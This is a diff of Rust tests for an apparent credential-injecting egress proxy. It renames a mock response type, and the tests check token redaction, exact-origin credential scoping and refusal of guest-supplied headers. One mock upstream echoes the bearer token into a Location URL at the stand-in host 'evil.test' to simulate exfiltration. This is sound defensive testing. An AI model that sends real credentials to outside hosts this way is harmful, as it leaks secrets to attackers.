@@ -11,7 +11,7 @@ use base64::engine::general_purpose::STANDARD;
 use serde_json::{Value, json};
 
 use crate::egress::upstreams;
-use crate::mock::{MockResponse, Recorded};
+use airlock_testkit::{Recorded, Reply};
 
 const CANARY: &str = "canary-7f3a9c2e-tok";
 
@@ -54,9 +54,9 @@ fn fetch_scanning(url: &str, canary: &str) -> Value {
 }
 
 /// Echoes the request headers in the body, in a response header and in `Location`.
-fn echo_everywhere(request: &Recorded) -> MockResponse {
+fn echo_everywhere(request: &Recorded) -> Reply {
     let auth = request.header("authorization").join(",");
-    MockResponse::echo_headers(request)
+    Reply::echo_headers(request)
         .header("x-echo", &auth)
         .header("location", &format!("https://evil.test/?t={auth}"))
         .chunked()
@@ -112,7 +112,7 @@ async fn a_bearer_token_goes_out_once_and_every_echo_is_redacted() {
 async fn a_compressed_echo_is_decoded_and_redacted() {
     let (mock, egress) = upstreams(&["vault.allowed.test"], |request| {
         let echo = format!("token={}", request.header("authorization").join(","));
-        MockResponse::bytes(200, gzip(echo.repeat(500).as_bytes()))
+        Reply::bytes(200, gzip(echo.repeat(500).as_bytes()))
             .header("content-encoding", "gzip")
             .chunked()
     });
@@ -138,7 +138,7 @@ async fn a_compressed_echo_is_decoded_and_redacted() {
 #[tokio::test]
 async fn a_credential_is_sent_only_to_its_rules_exact_origin() {
     let (mock, egress) = upstreams(&["vault.allowed.test", "api.allowed.test"], |_| {
-        MockResponse::status(204)
+        Reply::status(204)
     });
     // Same host on another port, and another allowed host: both allowed, neither credentialed.
     for url in [
@@ -181,7 +181,7 @@ async fn a_credential_is_sent_only_to_its_rules_exact_origin() {
 
 #[tokio::test]
 async fn the_guest_cannot_set_or_choose_the_injected_header() {
-    let (mock, egress) = upstreams(&["keyed.allowed.test"], MockResponse::echo_headers);
+    let (mock, egress) = upstreams(&["keyed.allowed.test"], Reply::echo_headers);
     for header in [
         "X-Api-Key",
         "x-api-key",
@@ -232,7 +232,7 @@ async fn the_guest_cannot_set_or_choose_the_injected_header() {
 async fn a_query_key_is_the_hosts_alone_and_never_reaches_events() {
     let secret = "k/ey+with=chars";
     let (mock, egress) = upstreams(&["query.allowed.test"], |request| {
-        MockResponse::json(200, json!({"path": request.path_and_query}))
+        Reply::json(200, json!({"path": request.path_and_query}))
     });
     let ran = egress
         .run_with(
@@ -281,7 +281,7 @@ async fn a_query_key_is_the_hosts_alone_and_never_reaches_events() {
 async fn a_credentialed_request_carrying_the_guests_own_credential_is_refused() {
     let (mock, egress) = upstreams(
         &["vault.allowed.test", "api.allowed.test"],
-        MockResponse::echo_headers,
+        Reply::echo_headers,
     );
     let fetch = |input: Value| egress.run_with("exfil", "fetch", input, &[("token", CANARY)]);
     let headers = [
@@ -366,18 +366,18 @@ async fn a_response_in_more_than_one_coding_is_refused_not_half_decoded() {
         let once = gzip(echo.as_bytes());
         let twice = gzip(&once);
         match request.path_and_query.as_str() {
-            "/repeated" => MockResponse::bytes(200, twice)
+            "/repeated" => Reply::bytes(200, twice)
                 .header("content-encoding", "gzip")
                 .header("content-encoding", "gzip"),
-            "/listed" => MockResponse::bytes(200, twice).header("content-encoding", "gzip, gzip"),
-            "/identity-first" => MockResponse::bytes(200, once)
+            "/listed" => Reply::bytes(200, twice).header("content-encoding", "gzip, gzip"),
+            "/identity-first" => Reply::bytes(200, once)
                 .header("content-encoding", "identity")
                 .header("content-encoding", "gzip"),
             // Deliberately framed by hand: hyper chunks it and leaves the gzip coding on.
             "/transfer-coded" => {
-                MockResponse::bytes(200, once).header("transfer-encoding", "gzip, chunked")
+                Reply::bytes(200, once).header("transfer-encoding", "gzip, chunked")
             }
-            _ => MockResponse::bytes(200, once).header("content-encoding", "gzip"),
+            _ => Reply::bytes(200, once).header("content-encoding", "gzip"),
         }
     });
     for (path, reason) in [
@@ -436,7 +436,7 @@ async fn basic_auth_is_encoded_once_and_its_forms_are_redacted() {
     let encoded = STANDARD.encode(login);
     let (mock, egress) = upstreams(&["basic.allowed.test"], |request| {
         let auth = request.header("authorization").join(",");
-        MockResponse::status(200).body(format!("{auth} / password=open sesame"))
+        Reply::status(200).body(format!("{auth} / password=open sesame"))
     });
     let ran = egress
         .run_with(
@@ -464,7 +464,7 @@ async fn basic_auth_is_encoded_once_and_its_forms_are_redacted() {
 #[tokio::test]
 async fn a_basic_username_is_redacted_as_well_as_its_password() {
     let (_mock, egress) = upstreams(&["basic.allowed.test"], |_| {
-        MockResponse::json(
+        Reply::json(
             200,
             json!({
                 "user": "svc-acme@sync.test",
@@ -517,7 +517,7 @@ async fn github_issues_lists_every_page_with_the_injected_token() {
                 {"number": 3, "title": "a PR", "html_url": "https://github.com/acme/widgets/pull/3", "pull_request": {}}
             ])
         };
-        let response = MockResponse::json(200, issues);
+        let response = Reply::json(200, issues);
         if page2 {
             response
         } else {
